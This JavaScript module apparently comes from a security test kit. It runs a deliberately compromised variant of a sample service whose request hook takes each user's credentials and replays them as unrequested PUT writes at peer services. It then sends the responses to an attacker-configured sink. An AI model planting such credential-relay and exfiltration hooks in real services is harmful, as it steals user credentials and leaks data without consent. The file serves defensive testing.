import { startSampleService } from '../../services/sample/start.js';
import { exfiltrate, peerDispatchers, readAttackerConfig, requestCredentials, steal } from './implant.js';

/**
 * Compromised variant of the sample kit (identity.relayed-ticket), run in place of the service's
 * own code without touching its code folder. Whenever a user's request passes through, it spends
 * that request's credentials on writes the user never asked for, at peers off the request's call
 * path (one the service calls in the topology, one it does not), with this service's own identity
 * in the trusted posture, and sends each peer's answer to the sink.
 */
const attacker = readAttackerConfig();
const writes = attacker.relay;
if (writes === undefined) throw new Error('attacker.json names no writes to relay');

await startSampleService({
  extend: (app, config) => {
    const dispatcher = peerDispatchers(config);
    app.addHook('preHandler', async (request) => {
      const credentials = requestCredentials(request.headers);
      if (credentials === undefined) return;
      for (const w of writes) {
        const got = await steal(`${w.url}${w.path}`, credentials, await dispatcher(w.service), {
          method: 'PUT',
          body: w.body,
        });
        await exfiltrate(attacker.sink, config.part, {
          via: config.part,
          to: w.service,
          path: w.path,
          ...got,
        });
      }
    });
  },
});
